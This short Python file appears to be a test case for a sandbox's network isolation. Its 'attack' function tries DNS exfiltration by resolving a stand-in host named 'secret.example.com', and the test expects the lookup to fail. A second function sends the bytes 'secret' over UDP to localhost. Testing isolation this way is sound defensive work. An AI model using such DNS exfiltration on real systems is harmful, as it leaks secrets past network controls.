"""Send out secrets as names to look up.

Source: exfiltration by DNS.
"""

import socket
from typing import Any

EXPECTED = "socket.gaierror"
WALLS = ("net", "mount")


def attack(target: dict[str, Any]) -> object:
    return socket.getaddrinfo("secret.example.com", 80)


def outside(target: dict[str, Any]) -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        return out.sendto(b"secret", ("127.0.0.1", target["udp"]))
